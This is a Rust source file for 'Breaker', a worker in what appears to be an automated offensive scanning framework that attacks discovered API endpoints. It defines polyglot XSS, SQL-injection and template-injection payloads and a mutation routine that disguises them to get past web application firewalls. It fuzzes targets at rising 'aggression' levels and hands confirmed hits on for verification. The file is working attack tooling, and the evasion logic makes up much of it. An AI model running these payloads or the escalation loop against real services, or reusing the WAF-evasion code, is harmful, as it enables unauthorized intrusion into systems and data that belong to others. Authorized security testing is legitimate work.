//! Breaker - heavy offensive operations against API candidates

use async_trait::async_trait;
use hive_common::{
    ArsenalKind, Candidate, CandidateTag, Event, EventType, JobPacket, ModuleConfig, NextStep,
    Priority, ResultPacket, TaskTarget, WorkerId,
};
use parking_lot::Mutex;
use rand::rngs::StdRng;
use rand::seq::SliceRandom;
use rand::{Rng, SeedableRng};
use serde_json::json;
use std::sync::Arc;
use tracing::info;

use crate::worker::{run_assigned, Worker, WorkerContext};

/// Payloads that trip several parsers at once.
pub const POLYGLOTS: &[&str] = &[
    "javascript://%250Aalert(1)//\"/*'*/-->",
    "' OR 1=1 UNION SELECT 1,2,3--",
    "{{7*7}}{% debug %}",
];

const FUZZ_AGGRESSION: u8 = 8;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Mutation {
    CaseSwap,
    InlineComment,
    KeywordSplit,
}

impl Mutation {
    pub const ALL: [Mutation; 3] = [Mutation::CaseSwap, Mutation::InlineComment, Mutation::KeywordSplit];
}

/// WAF-evasion rewrite of `payload`.
pub fn mutate<R: Rng + ?Sized>(payload: &str, mutation: Mutation, rng: &mut R) -> String {
    match mutation {
        Mutation::CaseSwap => payload
            .chars()
            .map(|c| {
                if rng.gen_bool(0.5) {
                    c.to_ascii_uppercase()
                } else {
                    c.to_ascii_lowercase()
                }
            })
            .collect(),
        Mutation::InlineComment => payload.replace(' ', "/**/%09"),
        Mutation::KeywordSplit => payload
            .replace("SELECT", "SEL/**/ECT")
            .replace("UNION", "UNI/**/ON")
            .replace("alert", "al/**/ert"),
    }
}

pub struct Breaker {
    rng: Mutex<StdRng>,
}

impl Default for Breaker {
    fn default() -> Self {
        Self::new()
    }
}

impl Breaker {
    pub fn new() -> Self {
        Self {
            rng: Mutex::new(StdRng::from_entropy()),
        }
    }

    pub fn with_seed(seed: u64) -> Self {
        Self {
            rng: Mutex::new(StdRng::seed_from_u64(seed)),
        }
    }

    /// A random polyglot under a random mutation.
    pub fn next_payload(&self) -> String {
        let mut rng = self.rng.lock();
        let base = POLYGLOTS.choose(&mut *rng).copied().unwrap_or(POLYGLOTS[0]);
        let mutation = Mutation::ALL.choose(&mut *rng).copied().unwrap_or(Mutation::CaseSwap);
        mutate(base, mutation, &mut *rng)
    }

    fn fuzz_job(&self, url: &str, aggression: u8) -> JobPacket {
        let payload = self.next_payload();
        JobPacket::new(
            TaskTarget::new(url).with_payload(json!({ "wildcard": payload })),
            ModuleConfig::new(ArsenalKind::ApiFuzzer, WorkerId::Breaker).with_aggression(aggression),
        )
        .with_priority(Priority::High)
    }

    /// Jobs a finished packet leads to.
    fn follow_up(&self, packet: &JobPacket, result: &ResultPacket) -> Option<JobPacket> {
        match result.next_step? {
            NextStep::Verify => Some(
                JobPacket::new(
                    packet.target.clone(),
                    ModuleConfig::new(ArsenalKind::ObjectReference, WorkerId::Auditor)
                        .with_aggression(packet.config.aggression),
                )
                .with_priority(Priority::Critical),
            ),
            NextStep::Escalate if packet.config.aggression < ModuleConfig::MAX_AGGRESSION => {
                Some(self.fuzz_job(&packet.target.url, packet.config.aggression + 1))
            }
            NextStep::Escalate => None,
        }
    }
}

#[async_trait]
impl Worker for Breaker {
    fn id(&self) -> WorkerId {
        WorkerId::Breaker
    }

    fn subscriptions(&self) -> &'static [EventType] {
        &[EventType::JobAssigned, EventType::VulnCandidate]
    }

    async fn handle_event(&self, ctx: &WorkerContext, event: Arc<Event>) -> anyhow::Result<()> {
        match event.event_type {
            EventType::VulnCandidate => {
                let candidate: Candidate = event.decode()?;
                if candidate.tag == CandidateTag::Api {
                    let job = self.fuzz_job(&candidate.url, FUZZ_AGGRESSION);
                    info!(url = %candidate.url, "API candidate intercepted, launching polyglot assault");
                    ctx.assign(self.id(), &job)?;
                }
            }
            EventType::JobAssigned => {
                if let Some((packet, result)) = run_assigned(self, ctx, &event).await? {
                    if let Some(next) = self.follow_up(&packet, &result) {
                        ctx.assign(self.id(), &next)?;
                    }
                }
            }
            _ => {}
        }
        Ok(())
    }
}
